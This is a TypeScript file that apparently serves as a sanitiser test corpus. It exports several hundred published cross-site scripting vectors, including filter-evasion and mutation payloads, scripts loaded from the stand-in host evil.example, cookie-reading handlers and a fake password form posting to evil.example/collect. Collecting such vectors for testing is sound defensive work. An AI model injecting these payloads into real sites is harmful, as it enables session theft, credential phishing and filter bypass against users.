/**
 * Markup that is known to run scripts, or to have run them, somewhere: the families of the public collections (OWASP's
 * filter evasion list, Cure53's HTML5 collection, mutation attacks on sanitisers, PortSwigger's events). One a line.
 */
const lines = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>
<script src=//evil.example/.j>
<<SCRIPT>alert("XSS");//\<</SCRIPT>
<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>
<SCRIPT/SRC="https://evil.example/xss.js"></SCRIPT>
<SCRIPT SRC=https://evil.example/xss.js?< B >
<SCRIPT a=">" SRC="https://evil.example/xss.js"></SCRIPT>
<SCRIPT =">" SRC="https://evil.example/xss.js"></SCRIPT>
<SCRIPT a=">" '' SRC="https://evil.example/xss.js"></SCRIPT>
<SCRIPT "a='>'" SRC="https://evil.example/xss.js"></SCRIPT>
<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.example/xss.js"></SCRIPT>
</TITLE><SCRIPT>alert("XSS");</SCRIPT>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
</xmp><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<script>alert(1)//
<script type=module>alert(1)</script>
<script type=text/vbscript>MsgBox(1)</script>
<script language=javascript>alert(1)</script>
<script src="data:text/javascript,alert(1)"></script>
<script src=blob:https://evil.example/1></script>
<script for=window event=onload>alert(1)</script>
<script xlink:href=data:,alert(1)></script>
<script defer src=https://evil.example/x.js></script>
<IMG SRC="javascript:alert('XSS');">
<IMG SRC=javascript:alert('XSS')>
<IMG SRC=JaVaScRiPt:alert('XSS')>
<IMG SRC=javascript:alert(&quot;XSS&quot;)>
<IMG """><SCRIPT>alert("XSS")</SCRIPT>">
<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>
<IMG SRC=# onmouseover="alert('xss')">
<IMG SRC= onmouseover="alert('xss')">
<IMG onmouseover="alert('xss')">
<IMG SRC=/ onerror="alert(1)"></img>
<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058;alert(1)">
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>
<IMG SRC="jav	ascript:alert('XSS');">
<IMG SRC="jav&#x09;ascript:alert('XSS');">
<IMG SRC="jav&#x0A;ascript:alert('XSS');">
<IMG SRC="jav&#x0D;ascript:alert('XSS');">
<IMG SRC=" &#14; javascript:alert('XSS');">
<IMG SRC="java&#0;script:alert(1)">
<IMG SRC="('XSS')" onerror=alert(1)
<IMG DYNSRC="javascript:alert('XSS')">
<IMG LOWSRC="javascript:alert('XSS')">
<IMG SRC='vbscript:msgbox("XSS")'>
<IMG SRC="livescript:[code]">
<IMG SRC="mocha:alert(1)">
<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">
<IMG SRC="https://evil.example/track.gif?c=1">
<img src=x:alert(alt) onerror=eval(src) alt=0>
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img src="x" onerror  =  alert(1)>
<img srcset="https://evil.example/2x.png 2x" src=x>
<img src=1 href=1 onerror="javascript:alert(1)"></img>
<img lowsrc=1 usemap=#m><map name=m><area href=javascript:alert(1) shape=default></map>
<image src=x onerror=alert(1)>
<image xlink:href="https://evil.example/i.png">
<picture><source srcset="https://evil.example/p.png"><img src=x onerror=alert(1)></picture>
<BODY BACKGROUND="javascript:alert('XSS')">
<BODY ONLOAD=alert('XSS')>
<BODY onload!#$%&()*~+-_.,:;?@[/|\]^=alert("XSS")>
<body onscroll=alert(1)><br><br><br><input autofocus>
<body onpageshow=alert(1)>
<body onhashchange=alert(1)><a href=#x>x</a>
<body oninput=alert(1)><input autofocus>
<body style="height:5000px" onwheel=alert(1)>
<BGSOUND SRC="javascript:alert('XSS');">
<BR SIZE="&{alert('XSS')}">
<LINK REL="stylesheet" HREF="javascript:alert('XSS');">
<LINK REL="stylesheet" HREF="https://evil.example/xss.css">
<link rel=import href=https://evil.example/import.html>
<link rel=prefetch href=https://evil.example/prefetch>
<link rel=dns-prefetch href=//evil.example>
<link rel=preload as=script href=https://evil.example/x.js>
<STYLE>@import'https://evil.example/xss.css';</STYLE>
<STYLE>BODY{-moz-binding:url("https://evil.example/xssmoz.xml#xss")}</STYLE>
<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>
<STYLE TYPE="text/javascript">alert('XSS');</STYLE>
<STYLE>.XSS{background-image:url("https://evil.example/bg");}</STYLE><A CLASS=XSS></A>
<style>*{background:url(https://evil.example/all)}</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<XSS STYLE="behavior: url(xss.htc);">
<XSS STYLE="xss:expression(alert('XSS'))">
<DIV STYLE="background-image: url(javascript:alert('XSS'))">
<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">
<DIV STYLE="width: expression(alert('XSS'));">
<div style="position:fixed;inset:0;background:url(https://evil.example/overlay)">Sign in again</div>
<p style="background:url(https://evil.example/p)">x</p>
<span style="animation:x" onanimationstart=alert(1)>x</span>
<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">
<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">
<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://;URL=javascript:alert('XSS');">
<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">
<META HTTP-EQUIV="Link" Content="<https://evil.example/xss.css>; REL=stylesheet">
<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi
<meta name=referrer content=unsafe-url>
<IFRAME SRC="javascript:alert('XSS');"></IFRAME>
<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe onload=alert(1)></iframe>
<iframe src="https://evil.example/frame"></iframe>
<iframe/src="data:text/html;&Tab;base64&Tab;,PGJvZHkgb25sb2FkPWFsZXJ0KDEpPg==">
<iframe xmlns="#" src="javascript:alert(1)"></iframe>
<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>
<frameset onload=alert(1)>
<TABLE BACKGROUND="javascript:alert('XSS')">
<TABLE><TD BACKGROUND="javascript:alert('XSS')">
<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>
<BASE HREF="javascript:alert('XSS');//">
<base href="https://evil.example/"><a href="/x">x</a>
<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>
<OBJECT classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert('XSS')></OBJECT>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<EMBED SRC="https://evil.example/xss.swf" AllowScriptAccess="always"></EMBED>
<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml"></EMBED>
<embed code="https://evil.example/x.swf" allowscriptaccess=always>
<applet code="javascript:alert(1)"></applet>
<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>
<XML SRC="xsstest.xml" ID=I></XML><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>
<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><t:set attributeName="innerHTML" to="XSS<SCRIPT>alert(1)</SCRIPT>">
<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->
<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=https://evil.example/xss.js></SCRIPT>'"-->
<? echo('<SCR)'; echo('IPT>alert("XSS")</SCRIPT>'); ?>
<?xml-stylesheet href="javascript:alert(1)"?><x/>
<!-- --!><img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<![><img src="]><img src=x onerror=alert(1)//">
<![CDATA[<img src=x onerror=alert(1)>]]>
<!DOCTYPE x[<!ENTITY x SYSTEM "https://evil.example/x">]>&x;
<A HREF="javascript:document.location='https://evil.example/'">XSS</A>
<A HREF="javascript&colon;alert(1)">XSS</A>
<A HREF="javascript&#58;alert(1)">XSS</A>
<A HREF="java&Tab;script:alert(1)">XSS</A>
<A HREF="java&NewLine;script:alert(1)">XSS</A>
<A HREF=" javascript:alert(1)">XSS</A>
<A HREF="&#1;javascript:alert(1)">XSS</A>
<A HREF="data:text/html,<script>alert(1)</script>">XSS</A>
<A HREF="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">XSS</A>
<A HREF="vbscript:msgbox(1)">XSS</A>
<A HREF="//evil.example/">XSS</A>
<A HREF="http://66.102.7.147/">XSS</A>
<A HREF="http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D">XSS</A>
<A HREF="h&#x0A;tt	p://6	6.000146.0x7.147/">XSS</A>
<a href="javas\x00cript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="jar:https://evil.example/x.jar!/x.html">x</a>
<a href="filesystem:https://evil.example/temporary/x.html">x</a>
<a href="ms-its:https://evil.example/x.chm::/x.html">x</a>
<a href=x onclick=alert(1)>x</a>
<a onmouseover="alert(document.cookie)">xxs link</a>
<a href="#" autofocus onfocus=alert(1) tabindex=1>x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a href="https://evil.example" ping="https://evil.example/ping">x</a>
<a href="https://evil.example" download>x</a>
<a style="display:block;position:fixed;inset:0" href=https://evil.example>x</a>
<a target=x href="https://evil.example" rel=opener>x</a>
<math href="javascript:alert(1)">CLICKME</math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">CLICKME</maction></math>
<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><annotation-xml encoding="text/html"><xmp>&lt;/xmp&gt;&lt;img src=x onerror=alert(1)&gt;</xmp></annotation-xml></math>
<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror='alert(1)' src>">
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><script>alert&#40;1&#41;</script>
<svg xmlns="http://www.w3.org/2000/svg"><g onload="alert(1)"></g></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><rect width=9 height=9 /></a>
<svg><set attributeName=onmouseover to=alert(1) />
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x"/></svg>
<svg><image href="https://evil.example/i.svg" onload=alert(1) />
<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><style>{font-family&colon;'<iframe/onload=confirm(1)>'
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<svg><desc><noscript></desc><s></noscript><img src onerror=alert(1)></noscript>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>
<svg><feImage><set attributeName="xlink:href" to="data:image/svg+xml;base64,PHN2Zz4="/></feImage></svg>
<svg><switch><g onload=alert(1)></g></switch></svg>
<svg contentScriptType=text/vbs><script>MsgBox+1</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img src="</noembed><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><svg/onload=alert(1)>">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<plaintext><img src=x onerror=alert(1)>
<template><s><template><s><img src=x onerror=alert(1)>@</s></template></s></template>
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<select><style></select><img src=x onerror=alert(1)></style>
<select><option><iframe></select><b><script>alert(1)</script>
<option><style></option></select><b><img src=x onerror=alert(1)></style></option>
<table><style></table><img src=x onerror=alert(1)></style>
<p><svg><style><!--</style><p id="--><img src=x onerror=alert(1)>">
<isindex type=image src=1 onerror=alert(1)>
<isindex action=javascript:alert(1) type=image>
<form action=javascript:alert(1)><button>x</button></form>
<form action=https://evil.example/collect method=post><input name=password type=password><button>Sign In</button></form>
<form id=test></form><button form=test formaction=javascript:alert(1)>X</button>
<form><button formaction="javascript:alert(1)">X</button>
<form oninput=alert(1)><input></form>
<form><input name=attributes><input name=nodeName></form>
<form><input name=parentNode><img src=x onerror=alert(1)></form>
<input autofocus onfocus=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<input type=image src=x onerror=alert(1)>
<input type=hidden accesskey=X onclick=alert(1)>
<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">
<button onclick=alert(1) popovertarget=x>x</button><div id=x popover onbeforetoggle=alert(1)>x</div>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen autofocus onfocus=alert(1)>
<video src=1 onerror=alert(1)></video>
<video><source onerror="alert(1)"></video>
<video onloadstart=alert(1)><source></video>
<video poster=javascript:alert(1)//></video>
<video src=https://evil.example/v.mp4 autoplay></video>
<audio src=1 onerror=alert(1)></audio>
<audio src=https://evil.example/a.mp3 autoplay></audio>
<track src=https://evil.example/t.vtt default>
<details open ontoggle=alert(1)>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>
<event-source src="https://evil.example/event" onload="alert(1)">
<x onclick=alert(1)>click this</x>
<x contenteditable onblur=alert(1)>lose focus</x>
<x onpointerrawupdate=alert(1)>x</x>
<x oncontentvisibilityautostatechange=alert(1) style=display:block;content-visibility:auto>
<style>@keyframes x{}</style><x style="animation-name:x" onanimationend=alert(1)></x>
<x style="transition:outline 1s" ontransitionend=alert(1) id=x tabindex=1></x>
<custom-element is=x-foo onclick=alert(1)>x</custom-element>
<li style=list-style:url() onerror=alert(1)>
<ol onscrollend=alert(1) style=overflow:auto><li>x</ol>
<b onpointerenter=alert(1)>x</b>
<b/alt="1"onmouseover=alert(1)>x</b>
<b "<script>alert(1)</script>">hi</b>
<p/onmouseover=javascript:alert(1); >M
<p><a href="https://evil.example" title='"><img src=x onerror=alert(1)>'>x</a></p>
<p title="&lt;img src=x onerror=alert(1)&gt;">x</p>
<span class=alert id=content name=content data-x=1 aria-live=assertive role=alert>x</span>
<div id=root><div id=content></div></div><a id=location></a><a id=location name=href href=x>x</a>
<div datafld="b" dataformatas="html" datasrc="#X"></div>
<object id=x type="x"><param name=movie value=https://evil.example/x.swf></object>
<portal src=https://evil.example></portal>
<fencedframe src=https://evil.example></fencedframe>
<nav onclick=alert(1)><menu><li onclick=alert(1)>x</menu></nav>
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-
¼script¾alert(¢XSS¢)¼/script¾
\u003cimg src=x onerror=alert(1)\u003e
&lt;script&gt;alert(1)&lt;/script&gt;
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
';alert(String.fromCharCode(88,83,83))//\';alert(1)//"--></SCRIPT>">'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>
'';!--"<XSS>=&{()}
"><img src=x onerror=alert(1)>
'"><svg onload=alert(1)>
"onmouseover="alert(1)
{{constructor.constructor('alert(1)')()}}
${'$'}{alert(1)}<%= alert(1) %>
`

export const publishedVectors: readonly string[] = lines.split('\n').filter((line) => line !== '')
